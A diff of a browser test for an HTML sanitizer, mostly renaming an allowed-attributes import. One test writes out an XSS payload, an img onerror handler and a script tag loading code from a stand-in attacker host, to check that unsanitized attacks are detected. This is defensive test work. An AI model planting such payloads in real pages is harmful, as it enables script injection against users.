@@ -2,7 +2,8 @@
 // without its content policy, to test the sanitizer alone.
 import type { Page } from "playwright-core";
 import { expect, test } from "vitest";
-import { allowed, attackerHost, attacks } from "#server/testing/xss-attacks.ts";
+import { allowedAttributes } from "#server/testing/allowed-html.ts";
+import { attackerHost, attacks } from "#server/testing/xss-attacks.ts";
 import { link } from "#shared/routes.ts";
 import { createClient, read } from "../../app/api-client.ts";
 import { admin, browser } from "../../testing/browser.ts";
@@ -70,11 +71,11 @@ const openBare = async (page: Page, html: string) => {
 
 // Attributes the page adds itself: heading anchors, image widths, code that scrolls by keyboard.
 const onPage = {
-  ...allowed,
+  ...allowedAttributes,
   h2: ["id"],
   h3: ["id"],
   pre: ["tabindex", "role", "aria-label"],
-  img: [...(allowed.img ?? []), "loading", "decoding", "sizes", "srcset"],
+  img: [...(allowedAttributes.img ?? []), "loading", "decoding", "sizes", "srcset"],
 };
 
 /** Returns elements and attributes that no post may have, as the browser parsed them. */
@@ -128,7 +129,7 @@ test.each(groups.map((htmls, at) => [at * attacksAPost, htmls] as const))(
     expect(await page.locator("article footer").count()).toBe(0);
 
     await openBare(page, `${content}</main><p id="after">after</p>`);
-    expect(await faultsIn(page, "main", allowed)).toEqual([]);
+    expect(await faultsIn(page, "main", allowedAttributes)).toEqual([]);
     expect(await hitsOf(page, "main")).toBe(0);
     expect(await page.locator("body > #after").count()).toBe(1);
     expect(page.happened).toEqual([]);
@@ -149,7 +150,7 @@ test("detects unsanitized attacks: they run, contact their host and leave elemen
   await openBare(page, `<img src=x onerror=hits++><script src=https://${attackerHost}/x.js></script></main>`);
   await expect.poll(() => page.evaluate("hits")).toBeGreaterThan(0);
   expect(page.happened).toEqual([`a request: https://${attackerHost}/x.js`]);
-  expect(await faultsIn(page, "main", allowed)).toEqual(["<img onerror>", "<script>", "<script src>"]);
+  expect(await faultsIn(page, "main", allowedAttributes)).toEqual(["<img onerror>", "<script>", "<script src>"]);
   // The browser logs the script that failed to load.
   page.consoleErrors.length = 0;
 });
